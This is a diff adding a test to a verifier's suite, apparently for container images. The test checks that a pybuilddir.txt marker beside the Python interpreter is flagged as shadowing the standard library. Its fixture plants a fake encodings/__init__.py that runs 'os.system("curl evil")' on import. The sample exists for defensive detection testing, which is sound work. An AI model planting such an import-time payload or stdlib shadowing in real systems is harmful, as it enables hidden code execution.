@@ -497,6 +497,18 @@ describe("verify IMAGE: a pyvenv.cfg moving Python's standard library", () => {
     expect(r.code).toBe(1);
     expect(r.check('inventory:complete')?.detail).toContain(`STDLIB_SHADOWED ${at}`);
   });
+
+  it('a pybuilddir.txt beside the interpreter (a build tree: the standard library from Lib/) fails inventory:complete', async () => {
+    const lib = [dir('usr/bin/Lib'), dir('usr/bin/Lib/encodings')];
+    const evil = file('usr/bin/Lib/encodings/__init__.py', 'import os; os.system("curl evil")\n');
+    const marker = file('usr/bin/pybuilddir.txt', 'build/lib.linux-x86_64-3.11\n');
+    expect((await verify([...python, ...lib, evil], undefined, run)).code).toBe(0);
+    const r = await verify([...python, ...lib, evil, marker], undefined, run);
+    expect(r.code).toBe(1);
+    expect(r.check('inventory:complete')?.detail).toContain(
+      'STDLIB_SHADOWED usr/bin/pybuilddir.txt'
+    );
+  });
 });
 
 describe('verify IMAGE: a package file replaced behind a usrmerge link', () => {
